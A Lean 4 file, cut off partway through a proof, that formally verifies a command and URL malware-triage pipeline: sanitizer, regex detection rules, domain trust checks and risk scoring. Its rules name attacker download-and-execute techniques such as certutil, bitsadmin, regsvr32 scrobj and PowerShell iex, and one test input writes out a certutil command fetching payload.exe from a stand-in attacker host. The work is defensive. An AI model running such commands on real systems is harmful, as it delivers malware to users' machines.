import Mathlib

/-!
Verification of the De-guard-tecT command/URL triage pipeline.

Texts are modelled as `List Char` (Python `str`).  Machine reals
(Python floats) of the risk scorer are modelled as `ℚ`: every constant
appearing in the scorer (0.05, 0.4, 0.2, 0.1, 0.7, 0.3) is taken exactly.
-/

namespace DeGuard

/-- Convert a Lean string literal to the `List Char` text representation. -/
def lc (s : String) : List Char := s.data

/-! ### security_utils.py — sanitizer

`sanitize_text` applies `unicodedata.normalize("NFKC", s)`, removes the
zero-width characters of `_ZW` and every character of Unicode general
category C, collapses whitespace with `" ".join(s.split())` and strips.

The Unicode data needed (canonical combining classes, NFKC decompositions,
primary composites, category-C membership, str.split whitespace) is embedded
by explicit tables covering the character ranges this development uses
(ASCII, the zero-width characters, U+0301, U+00E9, U+FF5C); characters
outside the tables are normalization-inert, as in the Unicode database. -/

/-- The `_ZW` set of security_utils.py: zero-width chars removed by the
sanitizer (U+200B, U+200C, U+200D, U+FEFF). -/
def zwChars : List Char := ['\u200b', '\u200c', '\u200d', '\ufeff']

/-- Unicode general category C (Other) membership, restricted to the ranges
relevant here: Cc controls (U+0000–U+001F, U+007F–U+009F) and the common Cf
format characters (soft hyphen, U+200B–U+200F, U+202A–U+202E,
U+2060–U+2064, U+FEFF). -/
def isCatC (c : Char) : Bool :=
  decide (c.toNat < 0x20) || c.toNat == 0x7f ||
  (decide (0x80 ≤ c.toNat) && decide (c.toNat ≤ 0x9f)) ||
  c.toNat == 0xad ||
  (decide (0x200b ≤ c.toNat) && decide (c.toNat ≤ 0x200f)) ||
  (decide (0x202a ≤ c.toNat) && decide (c.toNat ≤ 0x202e)) ||
  (decide (0x2060 ≤ c.toNat) && decide (c.toNat ≤ 0x2064)) ||
  c.toNat == 0xfeff

/-- A printable ASCII character (U+0020–U+007E): normalization-inert, not
zero-width, not of category C. -/
def plainChar (c : Char) : Bool :=
  decide (0x20 ≤ c.toNat) && decide (c.toNat ≤ 0x7e)

/-- Python str.split() / re \s whitespace (Unicode whitespace). -/
def isPyWS (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\x0b' || c == '\x0c' || c == '\r' ||
  (decide (0x1c ≤ c.toNat) && decide (c.toNat ≤ 0x1f)) ||
  c == '\x85' || c == '\u00a0' || c == '\u1680' ||
  (decide ('\u2000' ≤ c) && decide (c ≤ '\u200a')) ||
  c == '\u2028' || c == '\u2029' || c == '\u202f' || c == '\u205f' || c == '\u3000'

/-- NFKD decomposition mapping (identity outside the table): é → e +
combining acute; fullwidth vertical line → the ASCII pipe. -/
def decompChar (c : Char) : List Char :=
  if c == '\u00e9' then ['e', '\u0301']
  else if c == '\uff5c' then ['|']
  else [c]

/-- Full decomposition of a text (table entries are fully decomposed). -/
def decompose (l : List Char) : List Char := l.flatMap decompChar

/-- Canonical combining class (0 outside the table): U+0301 has ccc 230. -/
def pyCCC (c : Char) : Nat := if c == '\u0301' then 230 else 0

/-- Stable sort of a run of non-starters by canonical combining class. -/
def sortRun (run : List Char) : List Char :=
  List.insertionSort (fun a b => pyCCC a ≤ pyCCC b) run

/-- Canonical ordering: stable-sorts each maximal run of non-starters. -/
def coAux : List Char → List Char → List Char
  | run, [] => sortRun run
  | run, c :: rest =>
    if pyCCC c == 0 then sortRun run ++ c :: coAux [] rest
    else coAux (run ++ [c]) rest

/-- Canonical ordering of a whole text. -/
def canonicalOrder (l : List Char) : List Char := coAux [] l

/-- Primary composite table: (e, combining acute) → é. -/
def primComp (a b : Char) : Option Char :=
  if a == 'e' && b == '\u0301' then some '\u00e9' else none

/-- A non-starter c is blocked from the last starter iff some character seen
since (most recent first) has ccc ≥ ccc c; after canonical ordering the most
recent one has the maximal ccc. -/
def blockedBy (marks : List Char) (c : Char) : Bool :=
  match marks with
  | [] => false
  | m :: _ => decide (pyCCC c ≤ pyCCC m)

/-- Canonical composition (UAX #15): L is the last starter, marks the
characters seen since it, most recent first. -/
def composeAux : Char → List Char → List Char → List Char
  | L, marks, [] => L :: marks.reverse
  | L, marks, c :: rest =>
    if pyCCC c == 0 then
      match primComp L c with
      | some P =>
        if marks.isEmpty then composeAux P [] rest
        else L :: marks.reverse ++ composeAux c [] rest
      | none => L :: marks.reverse ++ composeAux c [] rest
    else
      if blockedBy marks c then composeAux L (c :: marks) rest
      else
        match primComp L c with
        | some P => composeAux P marks rest
        | none => composeAux L (c :: marks) rest

/-- Canonical composition of a whole text (leading non-starters are kept). -/
def compose : List Char → List Char
  | [] => []
  | c :: rest => if pyCCC c == 0 then composeAux c [] rest else c :: compose rest

/-- Embeds `unicodedata.normalize("NFKC", s)`. -/
def pyNFKC (l : List Char) : List Char := compose (canonicalOrder (decompose l))

/-- Characters kept by the sanitizer's filter: not in `_ZW` and not of
Unicode category C (security_utils.py line 19). -/
def keepChar (c : Char) : Bool := !(zwChars.contains c) && !(isCatC c)

/-- Python s.split(): split on whitespace runs, dropping empty pieces
(acc holds the current word, reversed). -/
def pySplitAux : List Char → List Char → List (List Char)
  | [], acc => if acc.isEmpty then [] else [acc.reverse]
  | c :: rest, acc =>
    if isPyWS c then
      if acc.isEmpty then pySplitAux rest [] else acc.reverse :: pySplitAux rest []
    else pySplitAux rest (c :: acc)

/-- Python s.split(). -/
def pySplit (l : List Char) : List (List Char) := pySplitAux l []

/-- Python " ".join(words): words separated by single spaces. -/
def spaceJoin : List (List Char) → List Char
  | [] => []
  | [w] => w
  | w :: ws => w ++ ' ' :: spaceJoin ws

/-- Python s.strip(): drop leading and trailing whitespace. -/
def stripWS (l : List Char) : List Char :=
  ((l.dropWhile isPyWS).reverse.dropWhile isPyWS).reverse

/-- Embeds `sanitize_text` of security_utils.py (lines 14–21); the input is
Optional to model a Python None argument. -/
def sanitize_text : Option (List Char) → List Char
  | none => []
  | some s =>
    stripWS (spaceJoin (pySplit ((pyNFKC s).filter keepChar)))

/-- `sanitize_text` on a present (non-None) text. -/
def sanitizeStr (s : List Char) : List Char := sanitize_text (some s)

/-! ### config.py — command validation configuration -/

/-- `MAX_CMD_LENGTH` of config.py. -/
def MAX_CMD_LENGTH : Nat := 8192

/-- The character class of `BAD_SHELL_CHARS` of config.py
(regex [;&|`$><\n\r^%]). -/
def BAD_SHELL_CHARS : List Char := (";&|`$><\n\r^%").data

/-- Membership in the forbidden shell-metacharacter class; a search of the
one-character-class regex succeeds iff some character is in the class. -/
def badShellChar (c : Char) : Bool := BAD_SHELL_CHARS.contains c

/-- Embeds `validate_cmd` of security_utils.py (lines 45–52). -/
def validate_cmd (cmd : List Char) : Bool :=
  let s := sanitizeStr cmd
  if s.isEmpty || decide (MAX_CMD_LENGTH < s.length) then false
  else if s.any badShellChar then false
  else true

/-! ### rules.py — the regex rule engine

Python `re` patterns are embedded as an abstract syntax tree `RE` together
with a complete nondeterministic matcher: `reRun` returns every way a
pattern can match a prefix of the remaining text (the predecessor character
is carried for word boundaries), and `reSearch` embeds `pattern.search`,
i.e. a match starting at any position.  Greedy versus lazy repetition only
affects which match is preferred, never whether one exists, so `.star`
covers both; `re.IGNORECASE` is embedded by ASCII case folding in literal
atoms (all rule patterns are ASCII).  `\w` is embedded as ASCII
alphanumerics plus underscore. -/

inductive RE : Type
  | eps : RE
  | cls (p : Char → Bool) : RE
  | cat (a b : RE) : RE
  | alt (a b : RE) : RE
  | star (a : RE) : RE
  | wb : RE
  | nla (a : RE) : RE

/-- A regex word character (ASCII letter, digit or underscore). -/
def isWordChar (c : Char) : Bool := c.isAlphanum || c == '_'

/-- A word boundary sits between a word character and a non-word character
(string ends count as non-word). -/
def boundaryAt (p : Option Char) (s : List Char) : Bool :=
  (match p with | none => false | some c => isWordChar c) !=
  (match s with | [] => false | c :: _ => isWordChar c)

/-- All states reachable by iterating the matcher `f` zero or more times;
only strictly consuming iterations recurse, so fuel `s.length` is enough. -/
def reRunStar (f : Option Char → List Char → List (Option Char × List Char)) :
    Option Char → List Char → Nat → List (Option Char × List Char)
  | p, s, 0 => [(p, s)]
  | p, s, Nat.succ n =>
    (p, s) :: (f p s).flatMap
      (fun q => if q.2.length < s.length then reRunStar f q.1 q.2 n else [])

/-- The matcher: every (predecessor, rest) state after a match of `re`
starting at the current position. -/
def reRun : RE → Option Char → List Char → List (Option Char × List Char)
  | .eps, p, s => [(p, s)]
  | .cls _, _, [] => []
  | .cls g, _, c :: rest => if g c then [(some c, rest)] else []
  | .cat a b, p, s => (reRun a p s).flatMap (fun q => reRun b q.1 q.2)
  | .alt a b, p, s => reRun a p s ++ reRun b p s
  | .star a, p, s => reRunStar (fun p' s' => reRun a p' s') p s s.length
  | .wb, p, s => if boundaryAt p s then [(p, s)] else []
  | .nla a, p, s => if (reRun a p s).isEmpty then [(p, s)] else []

/-- Try a match at this and at every later start position. -/
def searchAux (r : RE) : Option Char → List Char → Bool
  | p, [] => !(reRun r p []).isEmpty
  | p, c :: rest => !(reRun r p (c :: rest)).isEmpty || searchAux r (some c) rest

/-- Embeds `pattern.search(text)` truthiness: some match exists. -/
def reSearch (r : RE) (t : List Char) : Bool := searchAux r none t

/-- ASCII lower case on code points (re.IGNORECASE folding; non-ASCII
characters are untouched, as in the rule patterns' alphabet). -/
def lowCode (n : Nat) : Nat := if 65 ≤ n ∧ n ≤ 90 then n + 32 else n

/-- A literal pattern character under IGNORECASE. -/
def rchar (c : Char) : RE := .cls (fun x => lowCode x.toNat == lowCode c.toNat)

/-- A literal pattern string under IGNORECASE. -/
def rstr (s : String) : RE := s.data.foldr (fun c acc => .cat (rchar c) acc) .eps

/-- r? -/
def ropt (r : RE) : RE := .alt r .eps

/-- r+ -/
def rplus (r : RE) : RE := .cat r (.star r)

/-- Pattern `.` and the class [^\n] (any character but a newline). -/
def reDot : RE := .cls (fun c => c != '\n')

/-- The class [^\n|]. -/
def nonNlPipe : RE := .cls (fun c => c != '\n' && c != '|')

/-- Pattern \s. -/
def wsCls : RE := .cls isPyWS

/-- The class [^\s]. -/
def nonWsCls : RE := .cls (fun c => !(isPyWS c))

/-- The class [^\s"'] (no whitespace, double or single quote). -/
def urlChar : RE := .cls (fun c => !(isPyWS c) && c != '"' && c != '\x27')

/-- The class [^\\/\n]. -/
def noBsSlashNl : RE := .cls (fun c => c != '\\' && c != '/' && c != '\n')

/-- Pattern https?:// . -/
def httpsOpt : RE := .cat (rstr "http") (.cat (ropt (rchar 's')) (rstr "://"))

/-- Benign rule "SCHTASKS Query":
\bschtasks(?:\.exe)?\b(?!.*/(?:create|change|delete|run)\b).*?/(?:query|q)\b -/
def benignSchtasksRE : RE :=
  .cat .wb (.cat (rstr "schtasks") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.nla (.cat (.star reDot) (.cat (rchar '/')
      (.cat (.alt (rstr "create") (.alt (rstr "change") (.alt (rstr "delete") (rstr "run"))))
        .wb))))
      (.cat (.star reDot) (.cat (rchar '/')
        (.cat (.alt (rstr "query") (rstr "q")) .wb)))))))

/-- "PowerShell Encoded Payload":
\bpowershell(?:\.exe)?\b[^\n]*?(?:-enc(?:odedcommand)?|\bFromBase64String\b) -/
def psEncRE : RE :=
  .cat .wb (.cat (rstr "powershell") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot)
      (.alt (.cat (rstr "-enc") (ropt (rstr "odedcommand")))
            (.cat .wb (.cat (rstr "FromBase64String") .wb)))))))

/-- "IEX Download-Execute":
\b(?:iwr|invoke-webrequest|wget)\b[^\n|]*\|\s*iex\b -/
def iexRE : RE :=
  .cat .wb (.cat (.alt (rstr "iwr") (.alt (rstr "invoke-webrequest") (rstr "wget")))
    (.cat .wb (.cat (.star nonNlPipe)
      (.cat (rchar '|') (.cat (.star wsCls) (.cat (rstr "iex") .wb))))))

/-- "Certutil Download":
\bcertutil(?:\.exe)?\b[^\n]*?(?:-urlcache|-split|-f)[^\n]*https?:// -/
def certutilRE : RE :=
  .cat .wb (.cat (rstr "certutil") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot)
      (.cat (.alt (rstr "-urlcache") (.alt (rstr "-split") (rstr "-f")))
        (.cat (.star reDot) httpsOpt))))))

/-- "BITSAdmin Download":
\bbitsadmin(?:\.exe)?\b[^\n]*\btransfer\b[^\n]*https?:// -/
def bitsadminRE : RE :=
  .cat .wb (.cat (rstr "bitsadmin") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot) (.cat .wb (.cat (rstr "transfer") (.cat .wb
      (.cat (.star reDot) httpsOpt))))))))

/-- "MSHTA JavaScript Eval": \bmshta(?:\.exe)?\b[^\n]*javascript: -/
def mshtaRE : RE :=
  .cat .wb (.cat (rstr "mshta") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot) (rstr "javascript:")))))

/-- "Rundll32 URL Handler":
\brundll32(?:\.exe)?\b[^\n]*\burl\.dll,FileProtocolHandler\b[^\n]*https?:// -/
def rundll32RE : RE :=
  .cat .wb (.cat (rstr "rundll32") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot) (.cat .wb (.cat (rstr "url.dll,FileProtocolHandler")
      (.cat .wb (.cat (.star reDot) httpsOpt))))))))

/-- "Curl/Wget Download Script/Binary":
\b(?:curl|wget)\b[^\n]*https?://[^\s"']+\.(?:ps1|exe)\b -/
def curlWgetRE : RE :=
  .cat .wb (.cat (.alt (rstr "curl") (rstr "wget")) (.cat .wb
    (.cat (.star reDot) (.cat httpsOpt (.cat (rplus urlChar)
      (.cat (rchar '.') (.cat (.alt (rstr "ps1") (rstr "exe")) .wb)))))))

/-- "Invoke-WebRequest/iwr OutFile":
\b(?:Invoke-WebRequest|iwr)\b[^\n]*\s-?OutFile\b -/
def iwrOutFileRE : RE :=
  .cat .wb (.cat (.alt (rstr "Invoke-WebRequest") (rstr "iwr")) (.cat .wb
    (.cat (.star reDot) (.cat wsCls (.cat (ropt (rchar '-'))
      (.cat (rstr "OutFile") .wb))))))

/-- "Temp EXE Drop":
(?:\\|/)(?:AppData\\Local\\Temp|Temp)[^\\/\n]*\.exe\b -/
def tempExeRE : RE :=
  .cat (.alt (rchar '\\') (rchar '/'))
    (.cat (.alt (rstr "AppData\\Local\\Temp") (rstr "Temp"))
      (.cat (.star noBsSlashNl) (.cat (rstr ".exe") .wb)))

/-- "Regsvr32 Remote Scriptlet":
\bregsvr32(?:\.exe)?\b[^\n]*\b/i:https?://[^\s]+[^\n]*\bscrobj\.dll\b -/
def regsvr32RE : RE :=
  .cat .wb (.cat (rstr "regsvr32") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot) (.cat .wb (.cat (rstr "/i:http") (.cat (ropt (rchar 's'))
      (.cat (rstr "://") (.cat (rplus nonWsCls) (.cat (.star reDot)
        (.cat .wb (.cat (rstr "scrobj.dll") .wb))))))))))))

/-- "SCHTASKS Create/Change/Delete/Run":
\bschtasks(?:\.exe)?\b.*/(?:create|change|delete|run)\b -/
def schtasksMalRE : RE :=
  .cat .wb (.cat (rstr "schtasks") (.cat (ropt (rstr ".exe")) (.cat .wb
    (.cat (.star reDot) (.cat (rchar '/')
      (.cat (.alt (rstr "create") (.alt (rstr "change") (.alt (rstr "delete") (rstr "run"))))
        .wb))))))

/-- `BENIGN_PATTERNS` of rules.py (compiled `_BENIGN_RAW`, in order). -/
def BENIGN_PATTERNS : List (String × RE) := [("SCHTASKS Query", benignSchtasksRE)]

/-- `RULE_PATTERNS` of rules.py (compiled `_RAW_RULES`, in order). -/
def RULE_PATTERNS : List (String × RE) :=
  [("PowerShell Encoded Payload", psEncRE),
   ("IEX Download-Execute", iexRE),
   ("Certutil Download", certutilRE),
   ("BITSAdmin Download", bitsadminRE),
   ("MSHTA JavaScript Eval", mshtaRE),
   ("Rundll32 URL Handler", rundll32RE),
   ("Curl/Wget Download Script/Binary", curlWgetRE),
   ("Invoke-WebRequest/iwr OutFile", iwrOutFileRE),
   ("Temp EXE Drop", tempExeRE),
   ("Regsvr32 Remote Scriptlet", regsvr32RE),
   ("SCHTASKS Create/Change/Delete/Run", schtasksMalRE)]

/-- Embeds `apply_benign_rules` of rules.py (lines 82–86). -/
def apply_benign_rules (text : List Char) : List String :=
  if text.isEmpty then []
  else (BENIGN_PATTERNS.filter (fun nr => reSearch nr.2 text)).map (fun nr => nr.1)

/-- Embeds `apply_rules` of rules.py (lines 88–92). -/
def apply_rules (text : List Char) : List String :=
  if text.isEmpty then []
  else (RULE_PATTERNS.filter (fun nr => reSearch nr.2 text)).map (fun nr => nr.1)

/-- Embeds `cmd_rule_check` of rules.py (lines 94–96). -/
def cmd_rule_check (text : List Char) : Bool := !(apply_rules text).isEmpty

/-! ### ml_models.py — trust policy, model adapter, classify_url, classify_cmd -/

/-- The learned model behind `predict(text) -> label` (opaque function). -/
def Model : Type := List Char → String

/-- `SAFE_DOMAINS` of config.py (a Python set; iteration order is
irrelevant, every comparison below is an existential over the set). -/
def SAFE_DOMAINS : List (List Char) :=
  [lc "github.com", lc "google.com", lc "microsoft.com", lc "youtube.com",
   lc "docs.python.org"]

/-- Embeds `_is_trusted_host` of ml_models.py (lines 40–49), with the
domain set a parameter instantiated at `SAFE_DOMAINS`. -/
def _is_trusted_host (domains : List (List Char)) (host : List Char) : Bool :=
  let h := host.map Char.toLower
  domains.any (fun d => h == d || List.isSuffixOf ('.' :: d) h)

/-- Embeds `_is_deceptive_brand_in_subdomain` of ml_models.py
(lines 52–63). -/
def _is_deceptive_brand_in_subdomain (domains : List (List Char))
    (host : List Char) : Bool :=
  let h := host.map Char.toLower
  domains.any (fun d =>
    decide (d <:+: h) && !(h == d || List.isSuffixOf ('.' :: d) h))

/-- Embeds `load_url_model` of ml_models.py (lines 12–21): the filesystem
is abstracted to whether the artifact models/url_classifier.pkl exists; a
missing artifact (FileNotFoundError) is re-raised as a RuntimeError. -/
def load_url_model (artifact : Option Model) : Except String Model :=
  match artifact with
  | some m => Except.ok m
  | none => Except.error "URL model not found. Run training_v3.py to generate it."

/-- Embeds `classify_url` of ml_models.py (lines 66–82).  Hostname
extraction (urllib.parse on the sanitized url) is abstracted: the parsed
host is passed alongside the url text given to the model.  A raised
exception is an `Except.error`. -/
def classify_url (domains : List (List Char)) (artifact : Option Model)
    (host url : List Char) : Except String String :=
  if _is_trusted_host domains host then Except.ok "Legitimate"
  else if _is_deceptive_brand_in_subdomain domains host then Except.ok "Malicious"
  else (load_url_model artifact).map (fun m => m url)

/-- Embeds `classify_cmd` of ml_models.py (lines 96–111): regex rules
first, else the learned model on the NLP-augmented text; `predict` stands
for the composite `model.predict([augment(cmd)])[0]` (spaCy tagging and the
pickled pipeline are opaque). -/
def classify_cmd (predict : List Char → String) (cmd : List Char) : String :=
  if cmd_rule_check cmd then "Malicious" else predict cmd

/-! ### cli.py — handle_cmd orchestration -/

/-- The observable outcome of `handle_cmd` of cli.py: the two error exits,
the benign short-circuit, the malicious short-circuit, or a model label. -/
inductive CmdResult : Type
  | errNoCmd : CmdResult
  | errUnsafe : CmdResult
  | benignRes (hits : List String) : CmdResult
  | maliciousRes (hits : List String) : CmdResult
  | modelRes (label : String) : CmdResult
deriving DecidableEq

/-- Embeds `handle_cmd` of cli.py (lines 34–85) with the two rule stages as
parameters, to state which stages the outcome depends on.  `raw` is the
joined argument string (`" ".join(cmd_parts)`), `allowUnsafe` the presence
of --unsafe. -/
def handle_cmd_gen (benignF malF : List Char → List String)
    (predict : List Char → String) (allowUnsafe : Bool) (raw : List Char) :
    CmdResult :=
  let cmd := sanitizeStr (stripWS raw)
  if cmd.isEmpty then .errNoCmd
  else if !allowUnsafe && !(validate_cmd cmd) then .errUnsafe
  else if !(benignF cmd).isEmpty then .benignRes (benignF cmd)
  else if !(malF cmd).isEmpty then .maliciousRes (malF cmd)
  else .modelRes (classify_cmd predict cmd)

/-- `handle_cmd` with the rule stages of rules.py. -/
def handle_cmd (predict : List Char → String) (allowUnsafe : Bool)
    (raw : List Char) : CmdResult :=
  handle_cmd_gen apply_benign_rules apply_rules predict allowUnsafe raw

/-- The end-to-end input of the spec's certutil scenario. -/
def c3input : List Char :=
  "certutil -urlcache -split -f http://evil.example/payload.exe C:\\Temp\\a.exe".data

/-- The command text matching both a benign and a malicious rule. -/
def c9input : List Char := "certutil -urlcache -f http://e schtasks /query".data

/-! ### analyze_cmds.py — weights, score, assign_label -/

/-- Embeds `weights` of analyze_cmds.py (the dict literal, lines 26–34). -/
def weights : List (String × ℚ) :=
  [("Lolbin (0.05)", 0.05),
   ("Content (0.4)", 0.4),
   ("Frequency (0.2)", 0.2),
   ("Source (0.1)", 0.1),
   ("Network (0.1)", 0.1),
   ("Behavioural (0.1)", 0.1),
   ("History (0.05)", 0.05)]

/-- Embeds the `df['Score']` expression of analyze_cmds.py (lines 45–53):
the weighted sum of the seven risk-signal values. -/
def cmdScore (lolbin content frequency source network behavioural history : ℚ) : ℚ :=
  lolbin * 0.05 + content * 0.4 + frequency * 0.2 + source * 0.1 +
    network * 0.1 + behavioural * 0.1 + history * 0.05

/-- Embeds `assign_label` of analyze_cmds.py (lines 55–58). -/
def assign_label (score : ℚ) : String :=
  if 0.7 ≤ score then "malicious"
  else if 0.3 ≤ score then "suspicious"
  else "benign"

/-- A binary risk signal takes the value 0 or 1. -/
def BinSignal (x : ℚ) : Prop := x = 0 ∨ x = 1

/-- The content risk signal takes the value 0, 0.5 or 1
(`content_risk` of analyze_cmds.py). -/
def TernSignal (x : ℚ) : Prop := x = 0 ∨ x = 0.5 ∨ x = 1

theorem binSignal_bounds {x : ℚ} (h : BinSignal x) : 0 ≤ x ∧ x ≤ 1 := by
  rcases h with h | h <;> subst h <;> norm_num

theorem ternSignal_bounds {x : ℚ} (h : TernSignal x) : 0 ≤ x ∧ x ≤ 1 := by
  rcases h with h | h | h <;> subst h <;> norm_num

/-! ### Matcher lemmas: every match consumes a prefix, so the rest is a
suffix of the input; a search hit is a match at some suffix. -/

theorem reRunStar_suffix
    (f : Option Char → List Char → List (Option Char × List Char))
    (hf : ∀ p s q, q ∈ f p s → q.2 <:+ s) :
    ∀ (n : Nat) (p : Option Char) (s : List Char) (q : Option Char × List Char),
      q ∈ reRunStar f p s n → q.2 <:+ s := by
  intro n
  induction n with
  | zero =>
    intro p s q hq
    simp only [reRunStar, List.mem_singleton] at hq
    subst hq
    exact List.suffix_refl _
  | succ n ih =>
    intro p s q hq
    simp only [reRunStar, List.mem_cons, List.mem_flatMap] at hq
    rcases hq with rfl | ⟨q1, hq1, hq2⟩
    · exact List.suffix_refl _
    · by_cases hlt : q1.2.length < s.length
      · rw [if_pos hlt] at hq2
        exact (ih q1.1 q1.2 q hq2).trans (hf p s q1 hq1)
      · rw [if_neg hlt] at hq2
        exact absurd hq2 (List.not_mem_nil q)

theorem reRun_suffix (re : RE) :
    ∀ (p : Option Char) (s : List Char) (q : Option Char × List Char),
      q ∈ reRun re p s → q.2 <:+ s := by
  induction re with
  | eps =>
    intro p s q hq
    simp only [reRun, List.mem_singleton] at hq
    subst hq
    exact List.suffix_refl _
  | cls g =>
    intro p s q hq
    cases s with
    | nil => simp [reRun] at hq
    | cons c rest =>
      simp only [reRun] at hq
      by_cases hg : g c = true
      · rw [if_pos hg] at hq
        simp only [List.mem_singleton] at hq
        subst hq
        exact List.suffix_cons c rest
      · rw [if_neg hg] at hq
        exact absurd hq (List.not_mem_nil q)
  | cat a b iha ihb =>
    intro p s q hq
    simp only [reRun, List.mem_flatMap] at hq
    obtain ⟨q1, hq1, hq2⟩ := hq
    exact (ihb q1.1 q1.2 q hq2).trans (iha p s q1 hq1)
  | alt a b iha ihb =>
    intro p s q hq
    simp only [reRun, List.mem_append] at hq
    rcases hq with hq | hq
    · exact iha p s q hq
    · exact ihb p s q hq
  | star a iha =>
    intro p s q hq
    simp only [reRun] at hq
    exact reRunStar_suffix _ (fun p' s' q' h => iha p' s' q' h) s.length p s q hq
  | wb =>
    intro p s q hq
    simp only [reRun] at hq
    by_cases hb : boundaryAt p s = true
    · rw [if_pos hb] at hq
      simp only [List.mem_singleton] at hq
      subst hq
      exact List.suffix_refl _
    · rw [if_neg hb] at hq
      exact absurd hq (List.not_mem_nil q)
  | nla a iha =>
    intro p s q hq
    simp only [reRun] at hq
    by_cases hb : (reRun a p s).isEmpty = true
    · rw [if_pos hb] at hq
      simp only [List.mem_singleton] at hq
      subst hq
      exact List.suffix_refl _
    · rw [if_neg hb] at hq
      exact absurd hq (List.not_mem_nil q)

theorem searchAux_exists_match (r : RE) :
    ∀ (p : Option Char) (s : List Char), searchAux r p s = true →
      ∃ (p' : Option Char) (s' : List Char), s' <:+ s ∧ reRun r p' s' ≠ [] := by
  intro p s
  induction s generalizing p with
  | nil =>
    intro h
    simp only [searchAux] at h
    refine ⟨p, [], List.suffix_refl _, ?_⟩
    intro hemp
    rw [hemp] at h
    simp at h
  | cons c rest ih =>
    intro h
    simp only [searchAux, Bool.or_eq_true] at h
    rcases h with h | h
    · refine ⟨p, c :: rest, List.suffix_refl _, ?_⟩
      intro hemp
      rw [hemp] at h
      simp at h
    · obtain ⟨p', s', hs', hne⟩ := ih (some c) h
      exact ⟨p', s', hs'.trans (List.suffix_cons c rest), hne⟩

theorem reRun_cat_ne_nil {a b : RE} {p : Option Char} {s : List Char}
    (h : reRun (.cat a b) p s ≠ []) :
    ∃ q ∈ reRun a p s, reRun b q.1 q.2 ≠ [] := by
  simp only [reRun] at h
  obtain ⟨y, hy⟩ := List.exists_mem_of_ne_nil _ h
  obtain ⟨q, hq, hyq⟩ := List.mem_flatMap.mp hy
  exact ⟨q, hq, fun he => by rw [he] at hyq; exact List.not_mem_nil y hyq⟩

theorem lowCode_eq_pipe {n : Nat} (h : lowCode n = 124) : n = 124 := by
  unfold lowCode at h
  by_cases hc : 65 ≤ n ∧ n ≤ 90
  · rw [if_pos hc] at h
    omega
  · rw [if_neg hc] at h
    exact h

theorem char_eq_pipe {c : Char} (h : c.toNat = 124) : c = '|' := by
  have h2 := Char.ofNat_toNat c
  rw [h] at h2
  rw [← h2]

/-- A match of the IEX Download-Execute pattern forces a literal pipe in
the remaining text. -/
theorem reRun_iex_pipe :
    ∀ (p : Option Char) (s : List Char), reRun iexRE p s ≠ [] → '|' ∈ s := by
  intro p s h
  obtain ⟨q1, hq1, h⟩ := reRun_cat_ne_nil h
  obtain ⟨q2, hq2, h⟩ := reRun_cat_ne_nil h
  obtain ⟨q3, hq3, h⟩ := reRun_cat_ne_nil h
  obtain ⟨q4, hq4, h⟩ := reRun_cat_ne_nil h
  obtain ⟨q5, hq5, h⟩ := reRun_cat_ne_nil h
  have hsuf : q4.2 <:+ s :=
    ((((reRun_suffix _ _ _ _ hq4).trans (reRun_suffix _ _ _ _ hq3)).trans
      (reRun_suffix _ _ _ _ hq2)).trans (reRun_suffix _ _ _ _ hq1))
  cases hs : q4.2 with
  | nil =>
    rw [hs] at hq5
    simp [reRun, rchar] at hq5
  | cons c rest =>
    rw [hs] at hq5
    simp only [reRun, rchar] at hq5
    by_cases hcond : (lowCode c.toNat == lowCode ('|').toNat) = true
    · rw [if_pos hcond] at hq5
      have hc : c = '|' := by
        have := beq_iff_eq.mp hcond
        exact char_eq_pipe (lowCode_eq_pipe this)
      rw [hs] at hsuf
      exact hsuf.mem (hc ▸ List.mem_cons_self c rest)
    · rw [if_neg hcond] at hq5
      exact absurd hq5 (List.not_mem_nil q5)

/-- A search hit of the IEX pattern forces a literal pipe in the text. -/
theorem reSearch_iex_pipe {t : List Char} (h : reSearch iexRE t = true) :
    '|' ∈ t := by
  obtain ⟨p', s', hsuf, hne⟩ := searchAux_exists_match iexRE none t h
  exact hsuf.mem (reRun_iex_pipe p' s' hne)

/-! ### The sanitizer never removes a pipe character. -/

theorem pipe_mem_decompose {l : List Char} (hc : '|' ∈ l) : '|' ∈ decompose l :=
  List.mem_flatMap.mpr ⟨'|', hc, by decide⟩

theorem coAux_perm : ∀ (l run : List Char), (coAux run l).Perm (run ++ l) := by
  intro l
  induction l with
  | nil =>
    intro run
    simp only [coAux, List.append_nil]
    exact List.perm_insertionSort _ run
  | cons c rest ih =>
    intro run
    simp only [coAux]
    by_cases h : (pyCCC c == 0) = true
    · rw [if_pos h]
      exact (List.perm_insertionSort _ run).append ((ih []).cons c)
    · rw [if_neg h]
      have h2 := ih (run ++ [c])
      rw [List.append_assoc] at h2
      exact h2

theorem pipe_mem_canonicalOrder {l : List Char} (hc : '|' ∈ l) :
    '|' ∈ canonicalOrder l :=
  ((coAux_perm l []).mem_iff).mpr hc

theorem pipe_primComp_left (b : Char) : primComp '|' b = none := by
  simp [primComp]

theorem pipe_primComp_right (a : Char) : primComp a '|' = none := by
  simp [primComp]

theorem pipe_mem_composeAux :
    ∀ (rest : List Char) (L : Char) (marks : List Char),
      ('|' = L ∨ '|' ∈ marks ∨ '|' ∈ rest) → '|' ∈ composeAux L marks rest := by
  intro rest
  induction rest with
  | nil =>
    intro L marks h
    simp only [composeAux]
    rcases h with rfl | h | h
    · exact List.mem_cons_self _ _
    · exact List.mem_cons_of_mem _ (List.mem_reverse.mpr h)
    · simp at h
  | cons d rest ih =>
    intro L marks h
    simp only [composeAux]
    by_cases hd : (pyCCC d == 0) = true
    · rw [if_pos hd]
      cases hpc : primComp L d with
      | some P =>
        dsimp only
        have hL : ¬('|' = L) := by
          intro he
          rw [← he, pipe_primComp_left d] at hpc
          exact Option.noConfusion hpc
        have hd' : ¬('|' = d) := by
          intro he
          rw [← he, pipe_primComp_right L] at hpc
          exact Option.noConfusion hpc
        by_cases hm : marks.isEmpty = true
        · rw [if_pos hm]
          apply ih
          rcases h with h | h | h
          · exact absurd h hL
          · rw [List.isEmpty_iff.mp hm] at h
            simp at h
          · rcases List.mem_cons.mp h with he | hrest
            · exact absurd he hd'
            · exact Or.inr (Or.inr hrest)
